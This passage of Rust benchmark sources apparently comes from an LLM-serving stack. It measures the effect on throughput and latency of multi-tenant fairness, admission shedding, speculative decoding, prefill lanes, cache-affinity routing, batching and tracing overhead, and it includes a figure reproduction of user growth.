                            shed_batch.fetch_add(1, Ordering::Relaxed);
                        } else {
                            shed_interactive.fetch_add(1, Ordering::Relaxed);
                        }
                        // Sheds are instant: pace the retry a little.
                        std::thread::sleep(Duration::from_millis(50));
                    }
                    Ok(resp) if resp.status == 200 && !batch => {
                        ok_interactive.fetch_add(1, Ordering::Relaxed);
                    }
                    _ => {}
                }
            }
        }));
    }
    std::thread::sleep(duration);
    stop.store(true, Ordering::Relaxed);
    for h in handles {
        let _ = h.join();
    }

    let sb = shed_batch.load(Ordering::Relaxed);
    let si = shed_interactive.load(Ordering::Relaxed);
    let precision = if sb + si > 0 {
        sb as f64 / (sb + si) as f64
    } else {
        1.0
    };
    let s = &server.engine.stats;
    let row = Json::obj()
        .set("shed_batch", sb)
        .set("shed_interactive", si)
        .set("shed_precision", precision)
        .set("interactive_completed", ok_interactive.load(Ordering::Relaxed))
        .set(
            "missing_retry_after",
            missing_retry_after.load(Ordering::Relaxed),
        )
        .set(
            "engine_shed_wait_budget",
            s.shed_wait_budget.load(Ordering::Relaxed),
        )
        .set(
            "engine_shed_queue_full",
            s.shed_queue_full.load(Ordering::Relaxed),
        );
    server.stop();
    row
}

fn main() {
    let (victim_secs, shed_secs) = if bench::smoke() { (4, 4) } else { (12, 10) };
    println!("Ablation: multi-tenant fairness & SLO-aware admission control");
    println!(
        "phase 1: {AGGRESSOR_WORKERS} aggressor streams ({AGGRESSOR_MAX_TOKENS} tokens) vs one \
         victim ({VICTIM_MAX_TOKENS} tokens), batch {MAX_BATCH}, {STEP_MS}ms/step\n"
    );

    println!(
        "{:>10} {:>18} {:>18} {:>10}",
        "fairness", "victim p50 ms", "victim p99 ms", "samples"
    );
    let on = run_victim_phase(true, Duration::from_secs(victim_secs));
    let off = run_victim_phase(false, Duration::from_secs(victim_secs));
    for row in [&on, &off] {
        println!(
            "{:>10} {:>18.1} {:>18.1} {:>10}",
            if row.bool_field("fairness").unwrap_or(false) {
                "on"
            } else {
                "off"
            },
            row.f64_field("victim_ttft_p50_ms").unwrap_or(0.0),
            row.f64_field("victim_ttft_p99_ms").unwrap_or(0.0),
            row.u64_field("victim_samples").unwrap_or(0),
        );
    }
    let p99_on = on.f64_field("victim_ttft_p99_ms").unwrap_or(f64::MAX).max(1e-9);
    let p99_off = off.f64_field("victim_ttft_p99_ms").unwrap_or(0.0);
    let improvement = p99_off / p99_on;
    println!("\nvictim p99 TTFT improvement with fairness on: {improvement:.2}x");

    println!("\nphase 2: 2x overload, half interactive / half batch");
    let shed = run_shed_phase(Duration::from_secs(shed_secs));
    println!(
        "  shed: batch={} interactive={} precision={:.2} interactive_ok={} missing_retry_after={}",
        shed.u64_field("shed_batch").unwrap_or(0),
        shed.u64_field("shed_interactive").unwrap_or(0),
        shed.f64_field("shed_precision").unwrap_or(0.0),
        shed.u64_field("interactive_completed").unwrap_or(0),
        shed.u64_field("missing_retry_after").unwrap_or(0),
    );

    println!("\nreading: FIFO intake queues the victim behind the aggressor's");
    println!("whole backlog; deficit round-robin releases per-tenant, so the");
    println!("victim's small requests land in the next free slot. Under 2x");
    println!("overload the admission controller sheds the sheddable (batch)");
    println!("class with 429 + Retry-After, keeping guaranteed traffic alive.");

    bench::emit_json(
        "ablation_fairness",
        &Json::obj()
            .set("victim", Json::obj().set("on", on).set("off", off))
            .set("overload", shed.clone())
            .set(
                "summary",
                Json::obj()
                    .set("victim_p99_ttft_improvement", improvement)
                    .set(
                        "shed_precision",
                        shed.f64_field("shed_precision").unwrap_or(0.0),
                    ),
            ),
    );
}
