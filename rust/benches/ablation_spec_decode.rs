//! Ablation: speculative decoding + disaggregated prefill lanes.
//!
//! Two claims under test:
//!
//! 1. **Accepted tokens per decode step** — with the analytic drafter at
//!    acceptance rate `a`, each verify step lands the longest agreeing
//!    draft prefix plus one corrected token, so tokens/step grows from
//!    exactly 1.0 (a=0, or speculation off) toward `k+1` (a=1) — and the
//!    greedy output stream must be byte-identical to plain decoding at
//!    every acceptance rate.
//!
//! 2. **Prefill lanes vs prompt-stealing** — a long-document aggressor
//!    keeps a ~300ms prefill in flight. Inline (lanes=0), every victim
//!    prefill queues behind it and interactive TTFT p99 inflates to the
//!    aggressor's full prompt cost; with dedicated lanes the victim's
//!    prefill runs beside it and decode steps never stop.
//!
//! Smoke mode: `CHAT_AI_BENCH_SMOKE=1`; JSON artifact: `CHAT_AI_BENCH_JSON`.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use chat_ai::llm::backend::SeqState;
use chat_ai::llm::{
    tokenizer, Backend, EngineTuning, LlmServer, PerfProfile, SimBackend, SpeculativeConfig,
};
use chat_ai::util::hist::Histogram;
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;
use chat_ai::util::streaming::StreamingConfig;
use chat_ai::workload::bench;

const EXPECTED: &str = "1 2 3 4 5 6 7 8 9 10";

/// One sweep point: N greedy "count" requests against the analytic
/// backend at the given drafter acceptance rate. Returns tokens/step and
/// the fraction of outputs matching the plain-decode reference.
fn run_sweep_point(acceptance: f64, enabled: bool, requests: usize) -> Json {
    let mut profile = PerfProfile::by_name("intel-neural-7b").unwrap();
    profile.spec_accept = acceptance;
    let mut backend = SimBackend::new(profile);
    backend.time_scale = 0.0; // counting steps, not pacing them
    let server = LlmServer::start_tuned(
        "spec",
        Arc::new(backend),
        8,
        StreamingConfig::default(),
        EngineTuning {
            speculative: SpeculativeConfig {
                enabled,
                draft_k: 4,
                acceptance_rate: acceptance,
            },
            ..EngineTuning::default()
        },
    )
    .expect("start llm server");
    let mut client = Client::new(&server.url());
    let mut matches = 0usize;
    for _ in 0..requests {
        let body = Json::obj()
            .set(
                "messages",
                vec![Json::obj().set("role", "user").set("content", "count")],
            )
            .set("max_tokens", 64u64);
        let v = client
            .post_json("/v1/chat/completions", &body)
            .expect("chat request")
            .json()
            .expect("chat response json");
        let content = v.get("choices").and_then(Json::as_arr).and_then(|c| {
            c.first()
                .and_then(|c| c.get("message"))
                .and_then(|m| m.str_field("content").map(str::to_string))
        });
        if content.as_deref() == Some(EXPECTED) {
            matches += 1;
        }
    }
    let s = &server.engine.stats;
    let steps = s.decode_steps.load(Ordering::Relaxed).max(1);
    let generated = s.tokens_generated.load(Ordering::Relaxed);
    let row = Json::obj()
        .set("acceptance", acceptance)
        .set("enabled", enabled)
        .set("tokens_per_step", generated as f64 / steps as f64)
        .set("greedy_match", matches as f64 / requests as f64)
        .set(
            "proposed",
            s.spec_proposed_tokens.load(Ordering::Relaxed),
        )
        .set("accepted", s.spec_accepted_tokens.load(Ordering::Relaxed));
    server.stop();
    row
}

/// Fast decode, expensive prefill: the shape where one long document
/// steals decode steps from every interactive stream.
struct SlowPrefillBackend {
    per_token: Duration,
    step: Duration,
}

impl SlowPrefillBackend {
    fn one_hot() -> Vec<f32> {
        let mut v = vec![0.0; tokenizer::VOCAB];
        v[98] = 100.0; // byte 'a'
        v
    }
}

impl Backend for SlowPrefillBackend {
    fn max_batch(&self) -> usize {
        8
    }
    fn max_seq(&self) -> usize {
        8192
    }
    fn vocab(&self) -> usize {
        tokenizer::VOCAB
    }
    fn supports_chunked_prefill(&self) -> bool {
        true
    }
    fn prefill(&self, tokens: &[i32], cached_len: usize) -> anyhow::Result<(Vec<f32>, SeqState)> {
        let fresh = tokens.len().saturating_sub(cached_len) as u32;
        std::thread::sleep(self.per_token * fresh);
        Ok((Self::one_hot(), SeqState { kv: None, cursor: 0 }))
    }
    fn decode(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        _seqs: &mut [&mut SeqState],
    ) -> anyhow::Result<Vec<Vec<f32>>> {
        std::thread::sleep(self.step);
        Ok(tokens.iter().map(|_| Self::one_hot()).collect())
    }
}

/// Aggressor-vs-victim phase: one tenant keeps ~300ms long-document
/// prefills in flight while an interactive tenant streams short requests.
/// Returns the victim's client-side TTFT distribution.
fn run_lane_phase(lanes: usize, duration: Duration) -> Json {
    let server = LlmServer::start_tuned(
        "lanes",
        Arc::new(SlowPrefillBackend {
            per_token: Duration::from_micros(100),
            step: Duration::from_millis(8),
        }),
        64,
        StreamingConfig::default(),
        EngineTuning {
            prefill_chunk: 512,
            prefill_lanes: lanes,
            ..EngineTuning::default()
        },
    )
    .expect("start llm server");
    let url = server.url();
    let stop = Arc::new(AtomicBool::new(false));

    let aggressor = {
        let url = url.clone();
        let stop = stop.clone();
        std::thread::spawn(move || {
            let mut client = Client::new(&url);
            let mut iter = 0u64;
            while !stop.load(Ordering::Relaxed) {
                // Unique head per document so the prefix cache can't
                // absorb the prefill cost.
                iter += 1;
                let doc = format!("doc {iter}: {}", "d".repeat(3000));
                let body = Json::obj()
                    .set(
                        "messages",
                        vec![Json::obj().set("role", "user").set("content", doc)],
                    )
                    .set("max_tokens", 4u64);
                let req = Request::new("POST", "/v1/chat/completions")
                    .with_header("content-type", "application/json")
                    .with_header("x-consumer", "ingest")
                    .with_body(body.to_string().into_bytes());
                let _ = client.send(&req);
            }
        })
    };

    let ttft = Histogram::new();
    let mut victim = Client::new(&url);
    let t_end = Instant::now() + duration;
    let mut samples = 0u64;
    while Instant::now() < t_end {
        let body = Json::obj()
            .set(
                "messages",
                vec![Json::obj().set("role", "user").set("content", "go")],
            )
            .set("max_tokens", 8u64)
            .set("stream", true);
        let req = Request::new("POST", "/v1/chat/completions")
            .with_header("content-type", "application/json")
            .with_header("x-consumer", "chat-ui")
            .with_body(body.to_string().into_bytes());
        let t0 = Instant::now();
        let mut first: Option<Duration> = None;
        let _ = victim.send_streaming_until(
            &req,
            |_s, _h| {},
            |_chunk| {
                if first.is_none() {
                    first = Some(t0.elapsed());
                }
                true
            },
        );
        if let Some(d) = first {
            ttft.record(d.as_micros() as u64);
            samples += 1;
        }
    }
    stop.store(true, Ordering::Relaxed);
    let _ = aggressor.join();
    let row = Json::obj()
        .set("prefill_lanes", lanes as u64)
        .set("victim_ttft_p50_ms", ttft.p50() as f64 / 1e3)
        .set("victim_ttft_p99_ms", ttft.p99() as f64 / 1e3)
        .set("victim_samples", samples)
        .set(
            "prefill_tokens",
            server.engine.stats.prefill_tokens.load(Ordering::Relaxed),
        );
    server.stop();
    row
}

fn main() {
    let (requests, lane_secs) = if bench::smoke() { (8, 3) } else { (30, 10) };
    println!("Ablation: speculative decoding + disaggregated prefill lanes\n");

    println!("phase 1: drafter acceptance sweep (k=4, {requests} greedy requests each)");
    println!(
        "{:>12} {:>16} {:>14} {:>10} {:>10}",
        "acceptance", "tokens/step", "greedy match", "proposed", "accepted"
    );
    let off = run_sweep_point(0.7, false, requests);
    let mut sweep = Vec::new();
    let mut at_07 = 0.0f64;
    let mut greedy_match = off.f64_field("greedy_match").unwrap_or(0.0);
    for &a in &[0.0f64, 0.3, 0.5, 0.7, 0.9] {
        let row = run_sweep_point(a, true, requests);
        let tps = row.f64_field("tokens_per_step").unwrap_or(0.0);
        let gm = row.f64_field("greedy_match").unwrap_or(0.0);
        println!(
            "{:>12.1} {:>16.3} {:>14.2} {:>10} {:>10}",
            a,
            tps,
            gm,
            row.u64_field("proposed").unwrap_or(0),
            row.u64_field("accepted").unwrap_or(0),
        );
        if (a - 0.7).abs() < 1e-9 {
            at_07 = tps;
        }
        greedy_match = greedy_match.min(gm);
        sweep.push(row);
    }
    println!(
        "{:>12} {:>16.3} {:>14.2}   (speculation off)",
        "off",
        off.f64_field("tokens_per_step").unwrap_or(0.0),
        off.f64_field("greedy_match").unwrap_or(0.0),
    );

    println!("\nphase 2: long-document aggressor vs interactive victim");
    let lanes_off = run_lane_phase(0, Duration::from_secs(lane_secs));
    let lanes_on = run_lane_phase(2, Duration::from_secs(lane_secs));
    for row in [&lanes_off, &lanes_on] {
        println!(
            "  lanes={} victim ttft p50={:>8.1}ms p99={:>8.1}ms samples={}",
            row.u64_field("prefill_lanes").unwrap_or(0),
            row.f64_field("victim_ttft_p50_ms").unwrap_or(0.0),
            row.f64_field("victim_ttft_p99_ms").unwrap_or(0.0),
            row.u64_field("victim_samples").unwrap_or(0),
        );
    }
    let p99_on = lanes_on
        .f64_field("victim_ttft_p99_ms")
        .unwrap_or(f64::MAX)
        .max(1e-9);
    let p99_off = lanes_off.f64_field("victim_ttft_p99_ms").unwrap_or(0.0);
    let improvement = p99_off / p99_on;
    println!("\nvictim p99 TTFT improvement with prefill lanes: {improvement:.2}x");

    println!("\nreading: each verify step lands the accepted draft prefix plus");
    println!("one corrected token, so step count shrinks while the greedy");
    println!("stream stays byte-identical; dedicated prefill lanes keep long");
    println!("documents off the decode path entirely.");

    bench::emit_json(
        "ablation_spec_decode",
        &Json::obj()
            .set("sweep", sweep)
            .set("spec_off", off)
            .set(
                "lanes",
                Json::obj().set("on", lanes_on).set("off", lanes_off),
            )
            .set(
                "summary",
                Json::obj()
                    .set("tokens_per_step_at_0_7", at_07)
                    .set("greedy_match", greedy_match)
                    .set("lanes_ttft_p99_improvement", improvement),
            ),
    );
}
