//! Ablation: cache-affinity federation routing on vs off.
//!
//! The claim: PR 1's availability → health → least-loaded routing is
//! KV-cache-oblivious — under concurrent load the capacity view shifts
//! every probe, so a multi-turn chat ping-pongs between clusters and
//! re-prefills its whole history on every switch. Prefix-aware routing
//! (`[federation] cache_affinity_weight > 0`) pins each session to the
//! cluster holding its warm KV blocks, so the per-engine prefix cache
//! keeps paying off *through* the federation layer.
//!
//! Workload: N concurrent chat sessions × T turns against a 2-cluster
//! federated stack (one engine per cluster), each turn extending its own
//! history. Measured per phase (weight 0.8 vs 0.0): streaming TTFT p50,
//! cluster switches per session, and the cluster-reported
//! `prefill_tokens_saved` (scraped engine → probe → registry, i.e. the
//! same path `/federation/status` serves).
//!
//! Smoke mode: `CHAT_AI_BENCH_SMOKE=1`; JSON artifact: `CHAT_AI_BENCH_JSON`.

use std::time::{Duration, Instant};

use chat_ai::config::{ClusterSpec, ServiceSpec, StackConfig};
use chat_ai::coordinator::FederatedStack;
use chat_ai::federation::probe_all;
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;
use chat_ai::workload::bench;

/// Synthetic assistant reply appended to every session's history each
/// turn — deterministic so each turn's prompt strictly extends the last.
const ASSISTANT_FILLER: &str =
    "Here is a considered answer covering capacity, scheduling and the \
     storage layout, with enough detail to grow the context window.";

fn phase_config(weight: f64) -> StackConfig {
    let mut config = StackConfig {
        services: vec![ServiceSpec {
            name: "chat".to_string(),
            model: "intel-neural-7b".to_string(), // analytic profile backend
            gpus: 1,
            // Exactly one engine per cluster: per-instance load stays
            // comparable and every cluster switch is a cache miss.
            min_instances: 1,
            max_instances: 1,
            target_concurrency: 16.0,
        }],
        clusters: vec![ClusterSpec::named("hpc-a", 4), ClusterSpec::named("hpc-b", 4)],
        keepalive: Duration::from_millis(100),
        ..Default::default()
    };
    config.federation.cache_affinity_weight = weight;
    // Fast probes: the capacity view (and so the w=0 balancer) reacts to
    // in-flight load within a turn, the regime the affinity weight fixes.
    config.federation.probe_interval = Duration::from_millis(50);
    config
}

/// One chat session: `turns` requests, each extending the history by the
/// previous (synthetic) answer and a fresh question. Returns per-turn
/// streaming TTFTs (µs) and how often the session changed cluster.
fn run_session(router_url: &str, worker: usize, turns: usize) -> (Vec<u64>, u64) {
    let mut client = Client::new(router_url);
    let mut messages = vec![Json::obj().set("role", "user").set(
        "content",
        format!("session-{worker}: outline our cluster migration plan in one paragraph.")
            .as_str(),
    )];
    let mut ttfts = Vec::new();
    let mut switches = 0u64;
    let mut last_cluster: Option<String> = None;
    for turn in 0..turns {
        let body = Json::obj()
            .set("messages", messages.clone())
            .set("max_tokens", 8u64)
            .set("stream", true);
        let req = Request::new("POST", "/chat/v1/chat/completions")
            .with_header("content-type", "application/json")
            .with_body(body.to_string().into_bytes());
        let t0 = Instant::now();
        let mut first_byte: Option<u64> = None;
        let resp = client
            .send_streaming(&req, |_chunk| {
                if first_byte.is_none() {
                    first_byte = Some(t0.elapsed().as_micros() as u64);
                }
            })
            .expect("streamed turn");
        assert_eq!(resp.status, 200, "session {worker} turn {turn}");
        ttfts.push(first_byte.expect("stream produced no bytes"));
        let cluster = resp
            .headers
            .get("x-cluster")
            .cloned()
            .unwrap_or_default();
        if last_cluster.as_deref().is_some_and(|prev| prev != cluster) {
            switches += 1;
        }
        last_cluster = Some(cluster);
        messages.push(
            Json::obj()
                .set("role", "assistant")
                .set("content", ASSISTANT_FILLER),
        );
        messages.push(Json::obj().set("role", "user").set(
            "content",
            format!("follow-up {turn}: expand on that with concrete numbers and dates.")
                .as_str(),
        ));
    }
    (ttfts, switches)
}

fn percentile(sorted: &[u64], p: f64) -> u64 {
    if sorted.is_empty() {
        return 0;
    }
    let idx = ((sorted.len() - 1) as f64 * p).round() as usize;
    sorted[idx]
}

/// Sum of `prefill_tokens_saved` across every cluster+service in the
/// router's status document (the probe-scraped engine counters).
fn total_saved(status: &Json) -> u64 {
    let mut saved = 0;
    if let Some(Json::Obj(clusters)) = status.get("clusters") {
        for (_, cluster) in clusters {
            if let Some(Json::Obj(services)) = cluster.get("services") {
                for (_, svc) in services {
                    saved += svc.u64_field("prefill_tokens_saved").unwrap_or(0);
                }
            }
        }
    }
    saved
}

fn run_phase(weight: f64, sessions: usize, turns: usize) -> Json {
    let stack = FederatedStack::launch(phase_config(weight)).expect("launch");
    assert!(stack.wait_ready(Duration::from_secs(120)), "stack not ready");
    let router_url = stack.router_url();
    let results: Vec<(Vec<u64>, u64)> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..sessions)
            .map(|w| {
                let url = router_url.clone();
                scope.spawn(move || run_session(&url, w, turns))
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("session thread"))
            .collect()
    });
    let mut ttfts: Vec<u64> = results.iter().flat_map(|(t, _)| t.iter().copied()).collect();
    ttfts.sort_unstable();
    let switches: u64 = results.iter().map(|(_, s)| s).sum();
    // Pull the engines' final cache counters through the real probe path.
    probe_all(&stack.cluster_registry);
    let status = stack.router.status_json();
    let row = Json::obj()
        .set("cache_affinity_weight", weight)
        .set("sessions", sessions as u64)
        .set("turns", turns as u64)
        .set("ttft_p50_ms", percentile(&ttfts, 0.50) as f64 / 1e3)
        .set("ttft_p90_ms", percentile(&ttfts, 0.90) as f64 / 1e3)
        .set("cluster_switches", switches)
        .set("prefill_tokens_saved", total_saved(&status))
        .set("affinity_hits", status.u64_field("affinity_hits").unwrap_or(0))
        .set(
            "affinity_misses",
            status.u64_field("affinity_misses").unwrap_or(0),
        );
    stack.shutdown();
    row
}

fn print_row(row: &Json) {
    println!(
        "weight={:<4} ttft_p50={:>7.1}ms ttft_p90={:>7.1}ms switches={:>3} \
         saved_tokens={:>6} hits={:>3} misses={:>3}",
        row.f64_field("cache_affinity_weight").unwrap_or(0.0),
        row.f64_field("ttft_p50_ms").unwrap_or(0.0),
        row.f64_field("ttft_p90_ms").unwrap_or(0.0),
        row.u64_field("cluster_switches").unwrap_or(0),
        row.u64_field("prefill_tokens_saved").unwrap_or(0),
        row.u64_field("affinity_hits").unwrap_or(0),
        row.u64_field("affinity_misses").unwrap_or(0),
    );
}

fn main() {
    let smoke = bench::smoke();
    let (sessions, turns) = if smoke { (4, 5) } else { (6, 8) };
    println!("Ablation: cache-affinity federation routing (2 clusters)");
    println!(
        "{sessions} concurrent chat sessions x {turns} growing turns, \
         weight 0.8 (affinity) vs 0.0 (PR 1 load balancing)\n"
    );

    let on = run_phase(0.8, sessions, turns);
    let off = run_phase(0.0, sessions, turns);
    print_row(&on);
    print_row(&off);

    let saved_on = on.u64_field("prefill_tokens_saved").unwrap_or(0);
    let saved_off = off.u64_field("prefill_tokens_saved").unwrap_or(0);
    let affinity_saved_ratio = saved_on as f64 / saved_off.max(1) as f64;
    let p50_on = on.f64_field("ttft_p50_ms").unwrap_or(0.0).max(1e-9);
    let p50_off = off.f64_field("ttft_p50_ms").unwrap_or(0.0);
    let ttft_p50_ratio = p50_off / p50_on;
    println!(
        "\n  → affinity keeps {affinity_saved_ratio:.2}x more prefill tokens cached \
         across the federation ({saved_on} vs {saved_off})"
    );
    println!(
        "  → TTFT p50 off/on = {ttft_p50_ratio:.2} (>= 1 means affinity is \
         at least as fast)"
    );
    assert!(
        saved_on > 0,
        "affinity routing must preserve prefix-cache savings across clusters"
    );

    println!("\nreading: with weight 0 the balancer chases in-flight load, so");
    println!("sessions hop clusters and re-prefill their history after every");
    println!("hop; the affinity weight pins each session to its KV-warm");
    println!("cluster, preserving the engine-level prefix cache end-to-end");
    println!("without giving up spillover on outage or saturation.");

    bench::emit_json(
        "ablation_affinity",
        &Json::obj().set("on", on).set("off", off).set(
            "summary",
            Json::obj()
                .set("prefill_tokens_saved_on", saved_on)
                .set("affinity_saved_ratio", affinity_saved_ratio)
                .set("ttft_p50_ratio", ttft_p50_ratio),
        ),
    );
}
