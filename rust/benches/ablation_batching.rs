//! Ablation: continuous batching vs serial decoding on the simulated 7B
//! backend — the vLLM-style engine's reason to exist (§5.7: "vLLM was
//! several times more efficient than our unoptimized LLM runtime").

use std::sync::Arc;
use std::time::Duration;

use chat_ai::llm::{LlmServer, PerfProfile, SimBackend};
use chat_ai::util::http::{Client, Request};
use chat_ai::util::json::Json;
use chat_ai::workload::{bench, run_closed_loop, LoadGenConfig};

fn bench_with_max_batch(max_batch: usize, concurrency: usize, duration: Duration) -> f64 {
    let mut profile = PerfProfile::by_name("intel-neural-7b").unwrap();
    profile.max_batch = max_batch;
    let server = LlmServer::start("neural", Arc::new(SimBackend::new(profile)), 64).unwrap();
    let url = server.url();
    let result = run_closed_loop(
        &LoadGenConfig {
            concurrency,
            duration,
            warmup: Duration::from_millis(500),
        },
        move |_| {
            let mut client = Client::new(&url);
            move || {
                let req = Request::new("POST", "/v1/chat/completions").with_body(
                    Json::obj()
                        .set(
                            "messages",
                            vec![Json::obj().set("role", "user").set("content", "count")],
                        )
                        .set("max_tokens", 64u64)
                        .to_string()
                        .into_bytes(),
                );
                client.send(&req).map(|r| r.status == 200).unwrap_or(false)
            }
        },
    );
    let rps = result.rps();
    server.stop();
    rps
}

fn main() {
    let (duration, batches): (Duration, &[usize]) = if bench::smoke() {
        (Duration::from_millis(1500), &[8, 32])
    } else {
        (Duration::from_secs(4), &[2, 4, 8, 16, 32, 64])
    };
    println!("Ablation: decode batching (7B profile, 32 concurrent clients)\n");
    println!("{:>10} {:>12} {:>8}", "max_batch", "RPS", "speedup");
    let base = bench_with_max_batch(1, 32, duration);
    println!("{:>10} {:>12.1} {:>8.1}x   (serial decoding)", 1, base, 1.0);
    let mut rows = vec![Json::obj().set("max_batch", 1u64).set("rps", base)];
    for &batch in batches {
        let rps = bench_with_max_batch(batch, 32, duration);
        println!("{:>10} {:>12.1} {:>8.1}x", batch, rps, rps / base);
        rows.push(
            Json::obj()
                .set("max_batch", batch)
                .set("rps", rps)
                .set("speedup", rps / base.max(1e-9)),
        );
    }
    println!("\nreading: throughput scales with batch until the per-seq step");
    println!("cost term dominates — continuous batching is what makes one");
    println!("instance serve the paper's 27 RPS instead of ~5.");
    bench::emit_json("ablation_batching", &Json::obj().set("rows", rows));
}
