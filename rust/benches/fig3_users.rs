//! Figure 3 — total number of distinct users, Feb 22 → Jul 30 2024.
//! Paper: >6000 in the first three months, ~9000 by June, ad jump Apr 8.

use chat_ai::workload::adoption::{simulate, summarize, AdoptionParams, EVENTS};

fn main() {
    let days = simulate(&AdoptionParams::default(), 2024);
    println!("Figure 3: cumulative distinct users (seed 2024)\n");
    // Weekly sparkline-style table.
    println!("{:>5} {:>12}  {}", "day", "total users", "bar");
    for d in days.iter().step_by(7) {
        let bar = "#".repeat((d.total_users / 250) as usize);
        let event = EVENTS
            .iter()
            .find(|(ed, _)| (*ed >= d.day.saturating_sub(3)) && *ed <= d.day + 3)
            .map(|(_, e)| format!("  <- {e:?}"))
            .unwrap_or_default();
        println!("{:>5} {:>12}  {bar}{event}", d.day, d.total_users);
    }
    let s = summarize(&days);
    println!("\nday 100 (early June): {} users   [paper: ~9000]", s.total_users_day_100);
    println!("final (Jul 30):       {} users   [paper: 9000+, still growing]", s.total_users_final);
}
