//! Ablation: end-to-end tracing on vs off, measured across the real
//! four-hop streaming chain (gateway → HPC proxy → SSH/ForceCommand →
//! cloud interface → LLM server).
//!
//! Tracing ON: every request carries an `x-chat-ai-trace` id; each hop
//! records TTFB/connect/queue/prefill spans and the gateway finalizes the
//! TTFT attribution. Tracing OFF: the global switch is cleared, so the
//! gateway mints nothing and every record call is a single relaxed load.
//!
//! The claim under test is that span capture happens only at per-request
//! events — never per token — so the zero-copy relay hot path keeps its
//! allocation budget: forwarded-tokens/sec and allocations/token must be
//! indistinguishable between the two modes, while every traced stream
//! still produces a finalized attribution.
//!
//! Smoke mode: `CHAT_AI_BENCH_SMOKE=1`; JSON artifact: `CHAT_AI_BENCH_JSON`.

use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use chat_ai::cloud_interface::CloudInterface;
use chat_ai::gateway::{Gateway, Route};
use chat_ai::hpc_proxy::{HpcProxy, HpcProxyConfig};
use chat_ai::llm::backend::SeqState;
use chat_ai::llm::{tokenizer, Backend, LlmServer};
use chat_ai::scheduler::{DemandTracker, InstanceEntry, RoutingTable};
use chat_ai::ssh::{AuthorizedKey, SshServer, SshServerConfig};
use chat_ai::util::clock::{Clock, RealClock};
use chat_ai::util::http::{Client, Request, Server};
use chat_ai::util::json::Json;
use chat_ai::util::streaming::StreamingConfig;
use chat_ai::util::trace::{self, TraceId};
use chat_ai::workload::bench;

/// Counts every heap allocation so the cells can report allocations per
/// forwarded token. The count covers the whole process identically in
/// both modes, so the on-vs-off *difference* is tracing's per-token cost.
struct CountingAlloc;

static ALLOC_COUNT: AtomicU64 = AtomicU64::new(0);

unsafe impl GlobalAlloc for CountingAlloc {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOC_COUNT.fetch_add(1, Ordering::Relaxed);
        System.alloc(layout)
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }
    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOC_COUNT.fetch_add(1, Ordering::Relaxed);
        System.realloc(ptr, layout, new_size)
    }
}

#[global_allocator]
static ALLOC: CountingAlloc = CountingAlloc;

const KEY: &str = "SHA256:tracing-bench-key";

/// A model that decodes at full speed and never EOSes, so the chain is
/// the bottleneck and every stream delivers exactly its token budget.
struct FreeBackend;

impl FreeBackend {
    fn one_hot() -> Vec<f32> {
        let mut v = vec![0.0; tokenizer::VOCAB];
        v[98] = 100.0; // byte 'a'
        v
    }
}

impl Backend for FreeBackend {
    fn max_batch(&self) -> usize {
        128
    }
    fn max_seq(&self) -> usize {
        4096
    }
    fn vocab(&self) -> usize {
        tokenizer::VOCAB
    }
    fn prefill(&self, _tokens: &[i32], _cached_len: usize) -> anyhow::Result<(Vec<f32>, SeqState)> {
        Ok((Self::one_hot(), SeqState { kv: None, cursor: 0 }))
    }
    fn decode(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        _seqs: &mut [&mut SeqState],
    ) -> anyhow::Result<Vec<Vec<f32>>> {
        Ok(tokens.iter().map(|_| Self::one_hot()).collect())
    }
}

/// The full streaming chain with real sockets at every hop.
struct Chain {
    llm: LlmServer,
    _sshd: SshServer,
    proxy: Arc<HpcProxy>,
    _proxy_http: Server,
    _gateway: Arc<Gateway>,
    gateway_http: Server,
}

impl Chain {
    fn launch(streaming: StreamingConfig) -> Chain {
        let llm = LlmServer::start_with("m", Arc::new(FreeBackend), 96, streaming.clone())
            .expect("start llm server");

        let routing = Arc::new(RoutingTable::new());
        routing.insert(InstanceEntry {
            service: "m".into(),
            job: 1,
            node: "gpu01".into(),
            port: 40001,
            addr: None,
            ready: false,
        });
        routing.mark_ready(1, llm.addr());
        let demand = Arc::new(DemandTracker::new(60_000));
        let clock: Arc<dyn Clock> = Arc::new(RealClock::new());
        let ci = CloudInterface::with_streaming(
            routing,
            demand,
            clock,
            Arc::new(|| {}),
            7,
            streaming.clone(),
        );

        let sshd = SshServer::bind(
            "127.0.0.1:0",
            SshServerConfig {
                keys: vec![AuthorizedKey {
                    fingerprint: KEY.into(),
                    force_command: Some("saia".into()),
                }],
                workers: 16,
                exec_workers: 96,
                ..Default::default()
            },
        )
        .expect("bind sshd");
        let exec_ci = ci.clone();
        sshd.register_executable("saia", move |ctx| exec_ci.run(ctx));

        let proxy = HpcProxy::new(HpcProxyConfig {
            ssh_addr: sshd.addr(),
            key_fingerprint: KEY.into(),
            keepalive_interval: Duration::from_millis(500),
            reconnect_backoff: Duration::from_millis(50),
            reconnect_backoff_max: Duration::from_millis(400),
            streaming: streaming.clone(),
        });
        let proxy_http = proxy.serve("127.0.0.1:0", 96).expect("bind proxy http");

        let gateway = Gateway::with_streaming(
            vec![Route::new("m", "/m")
                .public()
                .with_upstream(&proxy_http.addr().to_string())],
            streaming,
        );
        let gateway_http = gateway.serve("127.0.0.1:0", 96).expect("bind gateway");

        Chain {
            llm,
            _sshd: sshd,
            proxy,
            _proxy_http: proxy_http,
            _gateway: gateway,
            gateway_http,
        }
    }

    fn shutdown(self) {
        self.proxy.shutdown();
        self.llm.stop();
    }
}

fn stream_request(max_tokens: u64, id: Option<TraceId>) -> Request {
    let body = Json::obj()
        .set(
            "messages",
            vec![Json::obj().set("role", "user").set("content", "go")],
        )
        .set("max_tokens", max_tokens)
        .set("stream", true);
    let mut req = Request::new("POST", "/m/v1/chat/completions")
        .with_header("content-type", "application/json")
        .with_body(body.to_string().into_bytes());
    if let Some(id) = id {
        req = req.with_header("x-chat-ai-trace", id.as_str());
    }
    req
}

